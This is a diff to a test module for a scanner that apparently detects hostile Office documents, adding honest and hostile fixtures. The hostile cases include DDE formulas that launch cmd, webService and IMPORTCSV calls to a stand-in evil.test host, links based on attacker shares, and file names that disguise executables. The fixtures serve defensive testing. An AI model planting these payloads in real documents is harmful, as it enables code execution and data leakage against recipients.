@@ -27,6 +27,11 @@ def _linked(target: str) -> bytes:
     return related(word(), _RELATIONS, "hyperlink", target)
 
 
+def _based(base: str) -> bytes:
+    properties = f"<Properties><HyperlinkBase>{base}</HyperlinkBase></Properties>".encode()
+    return remade(_linked("附件.docx"), add={"docProps/app.xml": properties})
+
+
 def _field(*pieces: str) -> bytes:
     return in_word(instruction(*pieces))
 
@@ -81,7 +86,7 @@ _FIELDS: tuple[tuple[tuple[str, ...], str], ...] = (
 )
 _TARGETS = (
     "//evil/share/a.exe", "calc.exe", "\\\\evil\\share", "../a.exe", "视频/run.exe", "a.exe#x.mp4", "a.exe%00.mp4", "a.exe?.mp4", "/a.mp4", "%2F%2Fevil/a.mp4", "www.a.test\\..\\a.exe", "search-ms:query=a",
-    "C:\\a.exe", "java&#9;script:alert(1)", "ftp://evil.test/a",
+    "www.evil.exe", "www.evil.hta", "x.exe%23a.docx", "x.exe;a.docx", "实验.exe:a.docx", "x\u202eexe.docx", "C:\\a.exe", "java&#9;script:alert(1)", "ftp://evil.test/a",
 )  # fmt: skip
 _FORMULAS = (
     ("1+cmd|&apos;/c calc&apos;!A0", "dde"),
@@ -93,6 +98,12 @@ _FORMULAS = (
     ("1+_xlfn.webService(&quot;http://evil.test&quot;)", "action"),
     ("&apos;\\\\evil\\share\\[b.xlsx]S&apos;!A1", "external-reference"),
     ("[b.xlsx]S!A1", "external-reference"),
+    ("&apos;[http://evil.test/x]S&apos;!A1", "external-reference"),
+    ("&apos;[\\\\evil\\s\\x]S&apos;!A1", "external-reference"),
+    ("_xlfn.IMPORTCSV(&quot;http://evil.test/x.csv&quot;)", "action"),
+    ("_xlfn.IMPORTTEXT(&quot;\\\\evil\\x.txt&quot;)", "action"),
+    ("HYPERLINK(&quot;a.docx&quot;&amp;&quot;.exe&quot;,&quot;点&quot;)", "action"),
+    ("HYPERLINK(&quot;a.docx&quot;&amp;&quot;/../../x.exe&quot;,&quot;点&quot;)", "action"),
 )
 _MEDIA: tuple[tuple[str, Callable[[], bytes], str, Callable[[], bytes]], ...] = (
     ("a PDF with a script", word, "word/media/a.pdf", script_on_open),
@@ -101,6 +112,11 @@ _MEDIA: tuple[tuple[str, Callable[[], bytes], str, Callable[[], bytes]], ...] = 
     ("a script", excel, "xl/media/a.js", lambda: b"GIF89a=1;WScript.Quit()"),
     ("a page", word, "word/media/a.htm", lambda: b"<p onclick=alert(1)>x</p>"),
 )
+_WORDED = (
+    "IF(A1=&quot;&quot;,&quot;见图 IMAGE (1)&quot;,&quot;&quot;)", "&quot;call (v.) &quot;&amp;A1",
+    "IF(Table1[第1.单元]&gt;90,&quot;真棒!&quot;,&quot;加油&quot;)", "&quot;he said &apos;a: b&apos;!&quot;",
+    "HYPERLINK(&quot;https://a.test/?id=&quot;&amp;A1,&quot;页&quot;)", "SUM(&apos;1月:3月&apos;!A1)",
+)  # fmt: skip
 _DDE_FIELD = instruction("ddeauto cmd").encode()
 
 HONEST = [
@@ -109,6 +125,7 @@ HONEST = [
     Case("a document with a link to a place", "a.docx", lambda: _field("HYPERLINK \\l &quot;_Toc1&quot; \\h")),
     Case("a document with a link to a letter", "a.docx", lambda: _linked("mailto:a@school.test")),
     Case("a workbook with links", "a.xlsx", lambda: in_excel("HYPERLINK(&quot;#Sheet2!A1&quot;,&quot;a|b&quot;)&amp;HYPERLINK(&quot;https://a.test&quot;)")),
+    *(Case(f"a workbook with {formula!r}", "a.xlsx", partial(in_excel, formula)) for formula in _WORDED),
     Case("a workbook with a bar in a sheet's name", "a.xlsx", lambda: in_excel("SUM(&apos;a|b&apos;!A1:A3)")),
 ]  # fmt: skip
 
@@ -121,6 +138,7 @@ HOSTILE = [
     Case("a validation that runs a program", "a.xlsx", lambda: _in_sheet("<dataValidations><dataValidation><formula1>1+CMD|&apos;/c calc&apos;!A0</formula1></dataValidation></dataValidations>"), "dde"),
     Case("a format that sends data", "a.xlsx", lambda: _in_sheet("<conditionalFormatting><cfRule><formula>webservice(&quot;http://evil.test&quot;)</formula></cfRule></conditionalFormatting>"), "action"),
     Case("a field over two paragraphs", "a.docx", lambda: in_word('<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>DDE</w:instrText></w:r></w:p><w:p><w:r><w:instrText>AUTO cmd</w:instrText></w:r></w:p>'), "dde"),
+    *(Case(f"a document whose links lead to {base}", "a.docx", partial(_based, base), "external-reference") for base in ("file://evil.test/share/", "\\\\evil\\share\\", "http://evil.test/")),
     Case("a document whose body is named data", "a.docx", lambda: _moved(word(), "word/document.xml", "word/document.dat", (b"<w:sectPr", _DDE_FIELD + b"<w:sectPr")), "dde"),
     Case("a workbook whose sheet is named data", "a.xlsx", lambda: _moved(excel(), "xl/worksheets/sheet1.xml", "xl/worksheets/sheet1.dat", (b"SUM(B2:B3)", b"cmd|'/c calc'!A0")), "dde"),
 ]  # fmt: skip
